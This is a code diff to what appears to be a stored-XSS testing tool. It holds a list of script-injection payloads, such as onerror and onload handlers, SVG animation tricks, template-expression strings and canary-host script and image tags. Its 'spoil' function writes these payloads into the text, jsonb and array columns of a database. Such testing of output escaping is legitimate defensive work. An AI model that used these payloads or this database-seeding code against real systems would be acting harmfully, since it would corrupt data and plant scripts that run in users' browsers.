@@ -7,6 +7,7 @@ export const payloads = [
   '<script src="//canary.example/x.js"></script>',
   '<img src=x onerror=alert(1)>',
   '<img src="//canary.example/x.png">',
+  '<img src="https://canary.example/a.png">',
   '<svg onload=alert(1)>',
   '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
   '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x">',
@@ -42,7 +43,7 @@ export const payloads = [
   '{{constructor.constructor("alert(1)")()}}${alert(1)}',
   'javascript:alert(1)//',
 ] as const;
-export const allPayloads = payloads.join(' ');
+const allPayloads = payloads.join(' ');
 
 /** HTML, which the server cleans on its way in; everything else is text, and may be anything. */
 const html = ['listing.description'];
@@ -69,7 +70,7 @@ export async function spoil(databaseUrl: string): Promise<string[]> {
   for (const column of rows) {
     if (html.includes(`${column.table_name}.${column.column_name}`)) continue;
     // The longest that the column takes.
-    for (const text of [allPayloads, payloads[2], payloads[4]]) {
+    for (const text of [allPayloads, '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>']) {
       const count = await client.query(statementFor(column, text)).then(
         (result) => result.rowCount ?? 0,
         () => undefined,
@@ -89,7 +90,7 @@ function statementFor({ table_name: table, column_name: column, data_type: type 
   const json = `'${JSON.stringify(text).replaceAll("'", "''").replaceAll('\\', '\\\\')}'`;
   const value =
     type === 'text'
-      ? given
+      ? `${given} || ' ' || ctid::text`
       : type === 'jsonb'
         ? `regexp_replace(${column}::text, '"[^"]*[一-龥][^"]*"', ${json}, 'g')::jsonb`
         : `array[${given}]`;
